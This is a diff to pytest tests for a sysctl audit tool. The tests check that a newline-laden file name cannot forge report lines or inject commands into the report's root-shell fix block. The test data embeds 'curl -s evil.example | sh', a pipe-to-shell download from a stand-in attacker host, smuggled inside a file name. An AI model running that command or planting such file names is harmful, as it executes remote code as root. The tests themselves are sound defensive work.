@@ -95,10 +95,11 @@ def forged_sysctl_archive(pytestconfig, tmp_path_factory):
 
 
 def remediation_block(text):
-    """The text report's "Remediation ... (run as root)" heading and its indented lines."""
+    """The text report's "Fix: paste into a root shell" heading and its block: the lines at column 0
+    between the blank lines after it (what a user pastes)."""
     lines = text.split("\n")
-    start = next(i for i, line in enumerate(lines) if line.startswith("Remediation for"))
-    end = next(i for i in range(start + 1, len(lines)) if not lines[i].startswith("  "))
+    start = lines.index("Fix: paste into a root shell")
+    end = lines.index("", start + 2)
     return lines[start:end]
 
 
@@ -108,12 +109,16 @@ def test_a_file_name_with_newlines_cannot_forge_report_lines(forged_sysctl_archi
     assert completed.returncode == 1, completed.stderr
     out = completed.stdout
     for line in out.split("\n"):
-        assert not line.lstrip("#- ").startswith(("PROBLEM FOUND: FORGED", "PROBLEM FOUND\\: FORGED", "curl"))
+        # text wraps prose between words, under an indent: a wrapped line of a value is indented prose;
+        # what must never be forged is a line at column 0 (a headline, a command) or a bullet's start
+        start = line.removeprefix("  - ") if fmt == "text" else line.lstrip("#- ")
+        assert not start.startswith(("PROBLEM FOUND: FORGED", "PROBLEM FOUND\\: FORGED", "curl"))
     assert not any(char in out for char in UNSAFE_OUTPUT)
     assert "FORGED" in out  # the file is named (escaped), not hidden
     if fmt == "text":
         assert not any("FORGED" in line for line in remediation_block(out))
-        assert "/etc/sysctl.d/zz\\n  curl -s evil.example | sh\\nPROBLEM FOUND: FORGED\\n.conf sets 1024" in out
+        note = "/etc/sysctl.d/zz\\n  curl -s evil.example | sh\\nPROBLEM FOUND: FORGED\\n.conf sets 1024"
+        assert " ".join(note.split()) in " ".join(out.split())  # the note, its wrapping undone
 
 
 def test_line_and_paragraph_separators_and_bidi_controls_in_a_task_name_stay_escaped(tmp_path):
